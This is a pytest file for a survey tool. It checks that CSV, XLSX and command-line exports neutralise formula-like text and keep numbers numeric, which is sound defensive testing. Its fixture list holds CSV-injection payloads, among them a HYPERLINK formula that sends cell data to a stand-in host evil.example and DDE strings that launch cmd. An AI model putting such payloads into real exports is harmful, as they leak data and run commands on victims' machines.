"""Downloads: text that a spreadsheet would run as a formula comes back as text, numbers as
numbers (the workbench, briefing and point exports via survey.safe_files; the CLI export)."""

import csv
import io
import os
import zipfile

import duckdb
import openpyxl
import pandas as pd
import pytest

from survey import bulk_export, safe_files

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0",
           "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
HARMLESS = ["会议太多", "a=b", "", "3 - 2"]


def frame() -> pd.DataFrame:
    texts = HOSTILE + HARMLESS
    return pd.DataFrame({"text": texts, "=header": texts,
                         "number": [-5.5 + i for i in range(len(texts))],
                         "count": list(range(-3, len(texts) - 3))})


def assert_text_cells(sheet, expected_texts):
    rows = list(sheet.iter_rows())
    header, body = rows[0], rows[1:]
    assert header[1].value == "=header" and header[1].data_type == "s"
    for row, text in zip(body, expected_texts):
        for cell in row[:2]:
            if text == "":
                assert cell.value in (None, "")
                continue
            assert cell.data_type == "s", (cell.value, cell.data_type)  # never "f"
            # verbatim, no apostrophe added (XML itself stores a CR as a line feed)
            assert cell.value == text  # verbatim: openpyxl writes through lxml (python-docx's)
        assert isinstance(row[2].value, float) and isinstance(row[3].value, int)


def no_formula_elements(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in book.read(name) and b"<f " not in book.read(name)


def test_xlsx_download_keeps_formula_like_text_as_text():
    data = safe_files.xlsx_bytes({"query": frame()})
    no_formula_elements(data)
    sheet = openpyxl.load_workbook(io.BytesIO(data))["query"]
    assert_text_cells(sheet, HOSTILE + HARMLESS)
    assert all(sheet.cell(row=i + 2, column=1).quotePrefix for i in range(len(HOSTILE)))


def test_csv_download_prefixes_formula_like_text_and_keeps_numbers():
    text = safe_files.csv_bytes(frame()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["text", "'=header", "number", "count"]
    for row, original in zip(rows[1:], HOSTILE + HARMLESS):
        for cell in row[:2]:
            assert not cell.startswith(safe_files.FORMULA_START)
            assert cell == ("'" + original if original in HOSTILE else original)
        float(row[2]), int(row[3])  # still numbers
    assert rows[1][2] == "-5.5" and rows[1][3] == "-3"


@pytest.fixture
def views(tmp_path):
    con = duckdb.connect(str(tmp_path / "views.duckdb"))
    con.execute("CREATE TABLE points AS SELECT * FROM (VALUES " +
                ", ".join(f"(?, ?, {i - 3}, {i - 3.5})" for i in range(len(HOSTILE + HARMLESS)))
                + ") t(point_id, name, n, x)", [v for t in HOSTILE + HARMLESS for v in (t, t)])
    con.execute("CREATE TABLE answers AS SELECT name AS value_text, [name] AS value_choices, n "
                "FROM points")
    yield con
    con.close()


def test_cli_csv_export_prefixes_formula_like_text(views, tmp_path):
    bulk_export.export(views, tmp_path / "out", "csv", views=("points", "answers"),
                    stream=open(os.devnull, "w"))
    with open(tmp_path / "out" / "points.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    for row, original in zip(rows[1:], HOSTILE + HARMLESS):
        assert row[:2] == [("'" + original if original in HOSTILE else original)] * 2
        int(row[2]), float(row[3])
    assert rows[1][2] == "-3" and rows[1][3] == "-3.5"


def test_cli_xlsx_export_keeps_formula_like_text_as_text(views, tmp_path):
    bulk_export.export(views, tmp_path / "out", "xlsx", views=("points", "answers"),
                    stream=open(os.devnull, "w"))
    data = (tmp_path / "out" / "survey_export.xlsx").read_bytes()
    no_formula_elements(data)
    book = openpyxl.load_workbook(io.BytesIO(data))
    for row, original in zip(list(book["points"].iter_rows())[1:], HOSTILE + HARMLESS):
        if original:
            assert [c.data_type for c in row[:2]] == ["s", "s"]
            assert [c.value for c in row[:2]] == [original] * 2  # verbatim, \r included
        assert isinstance(row[2].value, int) and isinstance(row[3].value, float)
    assert book["answers"].cell(row=2, column=1).data_type == "s"


def test_a_multiple_choice_list_downloads_as_the_cli_writes_it():
    """The workbench's CSV and XLSX wrote a multiple choice's codes as ['1' '5'] (a numpy
    array's text, from DuckDB's LIST column); the CLI export writes [1, 5]."""
    result = duckdb.sql("SELECT ['1', '5'] AS value_choices, ['=1+1'] AS hostile, "
                        "CAST(NULL AS VARCHAR[]) AS none").df()
    rows = list(csv.reader(io.StringIO(safe_files.csv_bytes(result).decode("utf-8-sig"))))
    assert rows[1][:2] == ["[1, 5]", "[=1+1]"]
    book = openpyxl.load_workbook(io.BytesIO(safe_files.xlsx_bytes({"s": result})))
    assert [c.value for c in book["s"][2]][:2] == ["[1, 5]", "[=1+1]"]


def test_the_workbench_writes_codes_as_the_cli_does():
    """value_num holds choice codes as DOUBLE, and an integer column with an empty cell came
    out of pandas as float: the workbench's CSV and XLSX wrote 3.0 where the CLI writes 3."""
    con = duckdb.connect()
    sql = ("SELECT * FROM (VALUES (3.0::DOUBLE, 2, 2.5::DOUBLE), (NULL, NULL, 1.0)) "
           "t(value_num, forms, hours)")
    table = con.sql(sql).arrow()
    if hasattr(table, "read_all"):  # a record batch reader in newer DuckDB
        table = table.read_all()
    frame = safe_files.spreadsheet_frame(table)
    rows = list(csv.reader(io.StringIO(safe_files.csv_bytes(frame).decode("utf-8-sig"))))
    assert rows[1:] == [["3", "2", "2.5"], ["", "", "1.0"]]
    book = openpyxl.load_workbook(io.BytesIO(safe_files.xlsx_bytes({"query": frame})))
    cells = [c.value for c in book["query"][2]]
    assert cells[:2] == [3, 2] and isinstance(cells[0], int) and cells[2] == 2.5
